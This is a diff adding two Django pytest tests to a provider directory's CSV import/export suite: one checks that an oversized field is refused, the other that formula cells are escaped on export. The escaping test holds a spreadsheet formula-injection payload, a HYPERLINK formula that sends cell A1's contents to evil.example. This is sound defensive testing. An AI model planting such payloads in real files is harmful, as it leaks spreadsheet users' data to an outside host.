@@ -186,3 +186,28 @@ def test_staff_outside_the_support_group_can_neither_import_nor_export(bank):
     client.force_login(UserFactory(username="newcomer"))
     assert client.get(IMPORT).status_code == 403
     assert client.get(EXPORT).status_code == 403
+
+
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_exported_as_text(support_client, bank):
+    formula = '=HYPERLINK("https://evil.example/?d="&A1,"点这里")'
+    Provider.objects.filter(pk=bank.pk).update(name_en=formula, hotline="+86 95500")
+    exported = export(support_client, CSV)
+    row = next(csv.DictReader(io.StringIO(exported)))
+    assert row["name_en"] == "'" + formula, "a spreadsheet shows it as text"
+    assert row["hotline"] == "'+86 95500"
+    assert not re.search(r'(^|,)"?[=+\-@]', exported.split("\n", 1)[1], re.M)
+    # ...and the export imports back unchanged.
+    html = upload(support_client, exported).content.decode()
+    assert '<tr class="skip">' in html
+    assert support_client.post(CONFIRM, confirm_form(html)).status_code == 302
+    assert Provider.objects.get(pk=bank.pk).name_en == formula
+
+
+def test_a_field_too_large_to_read_is_refused_by_name_and_limit(support_client, bank):
+    response = upload(support_client, csv_rows(bank={"name_en": "x" * 150_000}))
+    assert response.status_code == 200
+    text = page_text(response.content.decode())
+    assert "第 2 行的“name_en”有 150000 个字符" in text
+    assert "100000 个字符的上限" in text
+    assert "encountered" not in text
+    assert Provider.objects.get(slug="bank").name_en != "x" * 150_000
